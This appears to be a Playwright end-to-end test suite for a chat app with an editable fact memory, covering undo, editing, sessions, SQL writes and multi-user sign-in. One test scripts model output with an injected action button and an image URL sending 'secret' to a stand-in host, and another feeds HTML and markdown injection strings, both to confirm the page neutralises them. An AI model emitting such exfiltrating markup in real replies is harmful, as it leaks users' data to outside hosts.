"""The page as people use it, in a real Chromium: talk, stop, edit, undo, forget, sign in as two at once."""

from __future__ import annotations

import re
import sqlite3
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

from tests.app.web.conftest import LINE, PASSWORDS, PATIENCE, Served, counts, done, edit, gone, loaded, say, see

OF_A_LINE, OF_A_TICK = 4, 5
"""How many values the page sends with a line, and with its question, once a second, what there is new."""


def sends(values: int) -> Callable[[Any], bool]:
    """Whether a request is the one with so many values."""
    return lambda one: "/queue/join" in one.url and len(one.post_data_json["data"]) == values


@contextmanager
def told_after(window: Any, values: int) -> Iterator[None]:
    """Waits until the page was told all that comes of what is sent here with so many values.

    What it is told comes over streams, each of which ends when no more is to come: in the server's way or, mostly, in
    the page's, which hears the last word before the server has closed; to a browser the one has finished, the other
    failed.
    """
    sent, streams, ended = list[Any](), list[Any](), list[Any]()

    def begins(one: Any) -> None:
        sent.extend([one] if sends(values)(one) else [])
        streams.extend([one] if sent and "/queue/data" in one.url else [])

    def ends(one: Any) -> None:
        ended.append(one)

    heard = (("request", begins), ("requestfinished", ends), ("requestfailed", ends))
    for name, told in heard:
        window.on(name, told)
    yield
    until = time.monotonic() + PATIENCE / 1_000
    while not any(one in ended for one in streams):
        assert time.monotonic() < until, (sent, streams)
        window.wait_for_timeout(20)
    for name, told in heard:
        window.remove_listener(name, told)


def test_a_line_is_answered_remembered_and_taken_back_by_its_chip(page: Any, local: Served) -> None:
    say(page, "fact: I have two cats.")
    see(page, "#chat", "Nice to meet you.")
    see(page, "#chat .cm-chip", "+ I have two cats.")
    see(page, "#memory .cm-flash", "I have two cats.")
    see(page, "#sessions", "fact: I have two cats.")
    page.click("#chat .cm-chip >> text=Undo")
    gone(page, "#memory", "I have two cats.")
    see(page, "#chat .cm-chip.undone", "I have two cats.")
    assert local.store.facts.all(local.store.users.get("me").id) == []
    page.click("#chat .cm-chip >> text=Redo")
    see(page, "#memory", "I have two cats.")


def test_one_click_takes_back_all_that_a_line_led_to(page: Any, local: Served) -> None:
    say(page, "fact: I have two cats.")
    see(page, "#chat .cm-chip", "+ I have two cats.")
    assert page.get_by_text("Undo all").count() == 0  # the chip's own button does it
    say(page, "sql: INSERT INTO memory (subject, fact) VALUES ('User', 'User sails.'), ('User', 'User rows.');")
    see(page, "#memory", "User rows.")
    page.click("#chat >> text=Undo all 2")
    gone(page, "#memory", "User rows.")
    see(page, "#chat .cm-chip.undone", "User sails.")
    assert [one.fact for one in local.store.facts.all(local.store.users.get("me").id)] == ["I have two cats."]


def test_a_reply_is_stopped_and_what_was_shown_is_kept(page: Any, local: Served) -> None:
    local.tell(set={"gated": True})
    say(page, "hello")
    page.wait_for_selector("#stop:visible")
    local.tell(release=2)
    see(page, "#chat", "Nice")
    page.click("#stop")
    page.wait_for_selector("#send:visible")
    local.tell(set={"gated": False}, release=3)
    see(page, "#chat", "what you see is kept")
    [session] = local.store.sessions.all(local.store.users.get("me").id)
    turns = local.store.turns.of(session.id)
    assert turns[-1].status == "stopped" and "Nice to meet you.".startswith(turns[-1].text)
    say(page, "and now?")
    see(page, "#chat", "Nice to meet you.")


def test_a_line_is_said_anew_and_its_writes_go_first(page: Any, local: Served) -> None:
    say(page, "fact: I have two cats.")
    see(page, "#memory", "I have two cats.")
    done(page)
    page.click("#chat button[aria-label=Retry]")
    see(page, "#chat", "(1) Nice to meet you.")
    see(page, "#chat .cm-chip", "+ I have two cats.")
    edit(page, "fact: I have three cats.")
    see(page, "#memory", "I have three cats.")
    gone(page, "#memory", "I have two cats.")
    assert [one.fact for one in local.store.facts.all(local.store.users.get("me").id)] == ["I have three cats."]


def test_a_chip_that_comes_leaves_a_line_open_that_is_being_edited(page: Any, local: Served) -> None:
    local.tell(set={"storing": 600.0})
    say(page, "fact: I have two cats.")
    see(page, "#chat", "Nice to meet you.")
    edit(page)
    page.fill("#chat textarea", "fact: I have nine cats.")
    local.tell(set={"storing": 0.0})
    see(page, "#memory", "I have two cats.")  # the rest of the page goes on
    with page.expect_request(sends(OF_A_TICK)):
        pass  # it has been asked for once more, with nothing new
    local.store.facts.remember(local.store.users.get("me").id, "Ana", "", "Ana sails.")
    see(page, "#memory", "Ana sails.")  # and once more, so whatever was to come has come
    assert page.input_value("#chat textarea") == "fact: I have nine cats."
    assert page.locator("#chat .cm-chip").count() == 0
    page.click("#chat button[aria-label=Cancel]")
    see(page, "#chat .cm-chip", "+ I have two cats.")  # the chip comes when the line is closed
    edit(page, "fact: I have nine cats.")
    see(page, "#memory", "I have nine cats.")
    gone(page, "#memory", "I have two cats.")


def test_what_another_program_writes_or_forgets_shows_on_the_chips(page: Any, local: Served) -> None:
    say(page, "fact: I have two cats.")
    see(page, "#chat .cm-chip", "+ I have two cats.")
    user = local.store.users.get("me").id
    [memory] = local.store.facts.all(user)
    edited = local.store.facts.edit(memory.id, fact="I have three cats.")
    see(page, "#chat .cm-chip.later", "now: I have three cats.")
    chip = page.locator("#chat .cm-chip.later")
    assert chip.get_by_text("Undo").count() == 0
    chip.get_by_text("History").click()
    see(page, "#detail", "I have two cats. -> I have three cats.")
    chip.get_by_text("Edit").click()
    assert page.input_value(".cm-form textarea") == "I have three cats."
    page.fill(".cm-form textarea", "I have four cats.")
    page.press(".cm-form textarea", "Enter")
    see(page, "#chat .cm-chip.later", "now: I have four cats.")
    local.store.forget.memories(user, [edited.memory_id or 0])
    gone(page, "#chat", "four cats")
    counts(page, "#chat .cm-chip", 0)


def test_what_cannot_be_done_is_told_and_the_page_stays_as_it_is(page: Any, local: Served) -> None:
    say(page, "fact: I have two cats.")
    see(page, "#memory", "I have two cats.")
    page.click("#memory [data-act=edit]")
    page.press(".cm-form textarea", "Enter")
    see(page, "body", "says just that already")
    page.wait_for_timeout(700)  # sooner it would be the second half of an Enter pressed twice
    with told_after(page, OF_A_LINE):
        page.press(LINE, "Enter")  # an empty line, and all that the page is told of it
    for place, text in (("#memory", "two cats"), ("#chat", "two cats"), ("#sessions", "two cats"), ("#send", "Send")):
        see(page, place, text)
    say(page, "/help")
    see(page, "#chat", "remember a fact in just these words")
    page.wait_for_function("document.querySelector('#chat .cm-note')?.innerText.split('\\n').length > 10")


def test_a_locked_database_is_told_and_the_line_is_not_lost(page: Any, local: Served) -> None:
    blocker = sqlite3.connect(local.store.db.path, isolation_level=None)
    blocker.execute("BEGIN IMMEDIATE")
    say(page, "fact: I sail.")
    see(page, "#chat", "is in use by another program")
    page.wait_for_function("document.querySelector('#line textarea').value == 'fact: I sail.'")
    blocker.execute("ROLLBACK")
    blocker.close()
    page.press(LINE, "Enter")
    see(page, "#chat .cm-chip", "+ I sail.")
    see(page, "#status", "memory on")


def test_a_row_is_corrected_in_place_pinned_explained_and_forgotten(page: Any, local: Served) -> None:
    say(page, "fact: I have two cats.")
    page.click("#memory [data-act=edit]")
    page.fill(".cm-form textarea", "I have four <b>cats</b>.")
    page.press(".cm-form textarea", "Enter")
    see(page, "#memory", "I have four <b>cats</b>.")
    page.click("#memory [data-act=pin]")
    see(page, "#memory .cm-meta", "pinned")
    page.click("#memory [data-act=history]")
    see(page, "#detail", "-> I have four <b>cats</b>.")
    say(page, "what pets do I have?")
    see(page, "#chat", "what pets do I have?")
    page.wait_for_selector("#send:visible")
    page.get_by_role("tab", name="Why").click()
    see(page, "#tab-why", "fact: I have two cats.")  # the line that it came from
    page.get_by_role("tab", name="Chat").click()
    page.click("#memory [data-act=forget]")
    see(page, "#question", "Erase this for good?")
    page.click("#yes")
    gone(page, "#memory", "cats")
    user = local.store.users.get("me").id
    assert local.store.facts.all(user, current=False) == [] and local.store.journal.entries(user) == []


def test_what_a_model_says_can_neither_act_nor_call_out(page: Any, local: Served) -> None:
    says = ('<button data-act="undo" data-id="1">free</button> ',
                        '<img src="http://192.0.2.1/?q=secret"> ![x](http://192.0.2.1/y.png) done')  # fmt: skip
    local.tell(set={"says": says})
    say(page, "fact: I have two cats.")
    see(page, "#chat", "done")
    assert page.locator("#chat [data-testid=bot] .md [data-act]").count() == 0


def test_what_a_person_says_is_text_wherever_it_is_shown(page: Any, local: Served) -> None:
    line = "fact: **I** have `2` <b>cats</b>\n\n    1. <img src=x> ![x](http://192.0.2.1/y.png) $$x^2$$ &amp; www.x.de"
    fact = " ".join(line.removeprefix("fact: ").split())
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    say(page, line)
    see(page, "#chat [data-testid=user] .md", line)
    see(page, "#chat .cm-chip", fact)
    see(page, "#memory .cm-fact", fact)
    for place in ("#chat [data-testid=user] .md :not(p)", "#memory .cm-fact :not(.cm-mark)", "#chat .cm-chip span *"):
        counts(page, place, 0)
    assert page.get_attribute("#chat [data-testid=user]", "aria-label").endswith(line)
    page.click("#memory [data-act=forget]")
    see(page, "#question", "**I** have `2` <b>cats</b>")
    assert page.locator("#question .md :not(p)").count() == 0
    page.click("#no")
    page.wait_for_selector("#question", state="hidden")
    page.click("#chat button[aria-label='Copy message'] >> nth=0")
    assert page.evaluate("navigator.clipboard.readText()") == line  # as it was typed
    edit(page)
    assert page.input_value("#chat textarea") == line
    page.press("#chat textarea", "!")
    page.click("#chat button[aria-label=Submit]")
    see(page, "#chat [data-testid=user] .md", f"{line}!")
    see(page, "#memory .cm-fact", f"{fact}!")


def test_tabs_show_the_journal_rows_files_and_settings(page: Any, local: Served) -> None:
    say(page, "fact: I have two cats.")
    see(page, "#memory", "I have two cats.")
    page.get_by_role("tab", name="Journal").click()
    see(page, "#tab-journal", "INSERT INTO memory")
    page.get_by_role("tab", name="SQL").click()
    page.click("#run")
    see(page, "#result", "facts")
    page.get_by_role("tab", name="Files").click()
    with page.expect_download() as download:
        page.click("#export-csv")
    assert "I have two cats." in download.value.path().read_text()
    page.set_input_files("#file input[type=file]", files=[
        {"name": "facts.csv", "mimeType": "text/csv", "buffer": b"subject,fact\nAna,Ana sails.\n"}])  # fmt: skip
    see(page, "#plan", "1 memory")
    page.click("#take")
    see(page, "#plan", "Imported")
    page.get_by_role("tab", name="Settings").click()
    see(page, "#models", "scripted")
    assert int(page.input_value("#budget input")) >= 256 and page.get_by_text("Error").count() == 0
    page.click("#incognito input")
    see(page, "#status", "incognito")


def test_a_session_is_found_taken_up_and_deleted(page: Any, local: Served) -> None:
    say(page, "fact: I have two cats.")
    see(page, "#sessions", "two cats")
    page.wait_for_selector("#send:visible")
    page.click("#new")
    gone(page, "#chat", "two cats")
    say(page, "hello")
    see(page, "#sessions", "hello")
    page.fill("#find input, #find textarea", "two cats")
    gone(page, "#sessions", "hello")
    page.click("#sessions [data-act=resume]")
    see(page, "#chat", "fact: I have two cats.")
    page.click("#sessions [data-act=delete]")
    see(page, "#question", "Delete session")
    page.click("#yes")
    gone(page, "#chat", "two cats")


def test_it_fits_a_phone(page: Any, local: Served) -> None:
    page.set_viewport_size({"width": 390, "height": 800})
    page.reload()
    page.wait_for_selector(f"{LINE}:visible")
    page.wait_for_selector(".sidebar.open", state="detached")  # it would hide the chat
    say(page, "fact: " + "a very long fact " * 10)
    see(page, "#memory", "a very long fact")
    see(page, "#chat .cm-chip", "a very long fact")
    done(page)
    page.wait_for_function("document.getAnimations().every(each => each.playState !== 'running')")
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    box = page.locator(LINE).bounding_box()
    assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 390 and box["y"] < 800


def test_two_people_sign_in_at_once_and_see_only_their_own(shared: Served, browser: Any) -> None:
    shared.forget(*PASSWORDS)
    windows = {}
    for name, password in PASSWORDS.items():
        window = browser.new_context().new_page()
        window.set_default_timeout(PATIENCE)
        window.goto(shared.url)
        window.get_by_label(re.compile("user", re.I)).fill(name)
        window.get_by_label(re.compile("pass", re.I)).fill(password)
        window.get_by_role("button", name=re.compile("log ?in|sign ?in", re.I)).click()
        loaded(window)
        windows[name] = window
    for name, window in windows.items():
        see(window, "#status b", name)
        say(window, f"fact: {name} keeps a secret.")
    for name, window in windows.items():
        see(window, "#memory", f"{name} keeps a secret.")
    for name, window in windows.items():  # what another program writes shows, so whatever was to come has come
        shared.store.facts.remember(shared.store.users.get(name).id, name, "", f"{name} sails.")
        see(window, "#memory", f"{name} sails.")
    for name, window in windows.items():
        other = next(each for each in windows if each != name)
        assert f"{other} keeps" not in window.content()
        window.click("#signout")
        window.wait_for_selector(LINE, state="detached")
        window.context.close()


def test_what_is_typed_into_a_row_outlives_a_new_row(page: Any, local: Served) -> None:
    say(page, "fact: I have two cats.")
    page.click("#memory [data-act=edit]")
    page.fill(".cm-form textarea", "I have six cats.")
    local.store.facts.remember(local.store.users.get("me").id, "Ana", "", "Ana sails.")  # another program writes
    see(page, "#memory", "Ana sails.")
    page.press(".cm-form textarea", "Enter")
    see(page, "#memory", "I have six cats.")


def test_lines_typed_before_come_back_with_the_arrow_keys(page: Any, local: Served) -> None:
    for line in ("fact: I sail.", "/memory"):
        say(page, line)
        page.wait_for_function("document.querySelector('#line textarea').value === ''")
        page.wait_for_selector("#send:visible")

    def comes(text: str, *keys: str) -> None:
        for key in keys:
            page.press(LINE, key)
        page.wait_for_function("text => document.querySelector('#line textarea').value === text", arg=text)

    comes("/memory", "ArrowUp")
    comes("fact: I sail.", "ArrowUp", "ArrowUp")
    comes("/memory", "ArrowDown")
    comes("", "ArrowDown")
    page.fill(LINE, "half a line")
    page.press(LINE, "ArrowUp")
    page.evaluate("new Promise(drawn => requestAnimationFrame(() => requestAnimationFrame(drawn)))")
    comes("half a line")  # what is being typed is not overwritten
    page.reload()
    page.wait_for_selector("#typed [data-lines*=sail]", state="attached")
    comes("fact: I sail.", "ArrowUp")  # a new window knows what was said, from the memory


def test_sql_writes_only_when_told_to_and_one_click_takes_it_back(page: Any, local: Served) -> None:
    say(page, "fact: I have two cats.")
    see(page, "#memory", "I have two cats.")
    page.get_by_role("tab", name="SQL").click()
    page.click("#query .cm-content")
    page.keyboard.press("ControlOrMeta+A")
    page.keyboard.type("UPDATE memory SET fact = 'I have six cats.' WHERE subject = 'User'")
    page.click("#run")
    see(page, "#result", "The switch above allows writes.")
    user = local.store.users.get("me").id
    assert [one.fact for one in local.store.facts.all(user)] == ["I have two cats."]
    page.click("#writes input")
    page.click("#run")
    see(page, "#result", "I have two cats. -> I have six cats.")
    assert [entry.author.actor for entry in local.store.journal.entries(user)][-1] == "human"
    page.click("#take-back")
    see(page, "#result", "undo I have six cats.")
    assert [one.fact for one in local.store.facts.all(user)] == ["I have two cats."]
    page.get_by_role("tab", name="Help").click()
    see(page, "#guide", "/undo [WRITE | --turn]")
    assert "/user" not in page.inner_text("#guide")  # what is closed here is not offered


def test_light_or_dark_is_kept(page: Any, local: Served) -> None:
    see(page, "#chat", "Just talk.")
    assert not page.evaluate("document.body.classList.contains('dark')")
    page.get_by_role("tab", name="Settings").click()
    page.click("#theme input[value=dark]")
    page.wait_for_function("document.body.classList.contains('dark')")
    page.reload()
    loaded(page)
    page.wait_for_function("document.body.classList.contains('dark')")
    page.get_by_role("tab", name="Settings").click()
    page.wait_for_selector("#theme input[value=dark]:checked")
